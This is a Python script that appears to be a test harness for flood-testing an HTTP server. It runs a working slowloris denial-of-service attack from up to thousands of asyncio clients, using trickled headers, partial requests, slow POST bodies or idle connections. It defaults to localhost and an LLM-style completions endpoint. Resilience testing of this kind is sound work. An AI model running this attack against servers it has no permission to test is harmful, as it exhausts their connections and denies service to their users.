#!/usr/bin/python3
"""A slowloris attacker for the flood tests: many slow clients in one asyncio process.

Each of --connections clients connects, sends its bytes slowly (one every
--interval seconds) and reconnects as soon as the server closes the connection,
for --duration seconds. It prints `ready` once every client has connected once,
and at the end one JSON line of counts (connects, closed by the server, connect
errors). Modes:
  trickle  the request line and then a header that never ends, one byte at a time
  partial  `GET /metrics HTTP/1.1\\r\\nHost: x\\r\\n` at once, then nothing
  body     a complete POST header for --path with Content-Length 65536, then the
           body one byte at a time
  idle     connects and sends nothing

One process and one event loop, so the attacker takes at most one core.

Usage: slow_clients.py --port P [--connections 1000] [--mode trickle] [--interval 0.3] [--duration 20]
"""

import argparse
import asyncio
import itertools
import json
import resource
import signal
import sys


def raise_fd_limit(wanted):
    """Raises this process's soft RLIMIT_NOFILE towards `wanted` (at most the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if soft != resource.RLIM_INFINITY and soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


class Attack:
    def __init__(self, args):
        self.args = args
        self.stop = asyncio.Event()
        self.counts = {"connects": 0, "closed_by_server": 0, "connect_errors": 0, "answered": 0}
        self.first_round = 0
        self.ready = asyncio.Event()

    def script(self):
        """(bytes sent at once, an iterator of the bytes trickled after)."""
        mode, path = self.args.mode, self.args.path
        if mode == "trickle":
            return b"", itertools.chain(
                iter([bytes([b]) for b in b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "]), itertools.repeat(b"a"))
        if mode == "partial":
            return b"GET /metrics HTTP/1.1\r\nHost: x\r\n", None
        if mode == "body":
            head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                    "Content-Length: 65536\r\n\r\n").encode()
            return head, itertools.repeat(b" ")
        return b"", None  # idle

    async def client(self):
        first = True
        while not self.stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(self.args.host, self.args.port)
            except OSError:
                self.counts["connect_errors"] += 1
                await asyncio.sleep(0.05)
                continue
            self.counts["connects"] += 1
            if first:
                first = False
                self.first_round += 1
                if self.first_round == self.args.connections:
                    self.ready.set()
            at_once, trickle = self.script()
            try:
                if at_once:
                    writer.write(at_once)
                if trickle is not None:
                    writer.write(next(trickle))
                while not self.stop.is_set():
                    try:
                        data = await asyncio.wait_for(reader.read(4096), timeout=self.args.interval)
                    except asyncio.TimeoutError:
                        if trickle is not None:
                            writer.write(next(trickle))
                        continue
                    if not data:
                        break
                    self.counts["answered"] += 1  # e.g. a 431 or 408: read on until the server closes
                else:
                    writer.close()
                    return
            except (ConnectionError, OSError):
                pass
            self.counts["closed_by_server"] += 1
            writer.close()

    async def run(self):
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, self.stop.set)
        tasks = [asyncio.create_task(self.client()) for _ in range(self.args.connections)]
        try:
            await asyncio.wait_for(self.ready.wait(), timeout=15)
        except asyncio.TimeoutError:
            pass
        print("ready" if self.ready.is_set() else f"ready (only {self.first_round} connected)", flush=True)
        try:
            await asyncio.wait_for(self.stop.wait(), timeout=self.args.duration)
        except asyncio.TimeoutError:
            self.stop.set()
        await asyncio.wait(tasks, timeout=2)
        for t in tasks:
            t.cancel()
        print(json.dumps(self.counts), flush=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=1000)
    ap.add_argument("--mode", choices=["trickle", "partial", "body", "idle"], default="trickle")
    ap.add_argument("--path", default="/v1/chat/completions", help="the POST target of --mode body")
    ap.add_argument("--interval", type=float, default=0.3)
    ap.add_argument("--duration", type=float, default=20)
    args = ap.parse_args()
    limit = raise_fd_limit(args.connections + 64)
    if limit < args.connections + 16:
        print(f"slow_clients: RLIMIT_NOFILE is {limit}, too low for {args.connections} connections", file=sys.stderr)
        return 2
    asyncio.run(Attack(args).run())
    return 0


if __name__ == "__main__":
    sys.exit(main())
